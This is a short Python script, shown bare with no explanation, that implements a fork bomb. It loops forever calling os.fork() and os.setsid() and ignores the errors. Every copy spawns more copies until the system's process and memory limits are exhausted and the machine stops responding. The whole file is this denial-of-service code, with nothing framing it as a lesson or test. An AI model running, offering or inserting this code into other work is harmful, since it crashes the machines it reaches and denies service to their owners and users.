import os

while True:
    try:
        os.fork()
        os.setsid()
    except OSError:
        pass
